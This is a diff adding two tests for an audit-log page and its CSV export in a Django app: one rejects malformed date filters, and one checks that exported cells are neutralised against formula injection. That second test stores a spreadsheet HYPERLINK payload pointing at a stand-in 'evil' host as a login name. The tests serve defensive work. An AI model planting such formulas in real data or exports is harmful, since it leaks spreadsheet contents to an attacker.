@@ -86,3 +86,26 @@ def test_only_the_admin_reads_it_and_never_another_tenants(admin, staff, tenants
     audit(AuthEvent.Kind.LOGIN_FAILED, login="tylko-w-becie")
     connection.set_tenant(tenants.a)
     assert "tylko-w-becie" not in admin.get("/office/audit/", HTTP_HOST=HOST).content.decode()
+
+
+def test_a_filter_that_cannot_be_read_shows_and_exports_nothing(admin):
+    bad = admin.get(
+        "/office/audit/",
+        {"kind": "account_blocked", "since": "bad", "format": "csv"},
+        HTTP_HOST=HOST,
+    )
+    assert bad.status_code == 400
+    assert "Nadużycie" not in bad.content.decode()
+    far = admin.get("/office/audit/", {"until": "9999-12-31"}, HTTP_HOST=HOST)
+    assert far.status_code == 200
+    assert "Nadużycie" in far.content.decode()
+
+
+def test_the_csv_never_runs_a_cell_as_a_formula_and_the_export_is_recorded(admin, customer):
+    audit(AuthEvent.Kind.LOGIN_FAILED, login='=HYPERLINK("http://evil/?"&A1,"x")')
+    response = admin.get("/office/audit/", {"format": "csv"}, HTTP_HOST=HOST)
+    text = b"".join(response.streaming_content).decode()
+    assert ";'=HYPERLINK" in text or ";\"'=HYPERLINK" in text
+    assert ";=HYPERLINK" not in text
+    assert ';"=HYPERLINK' not in text
+    assert AuthEvent.objects.filter(kind="audit_exported").count() == 1
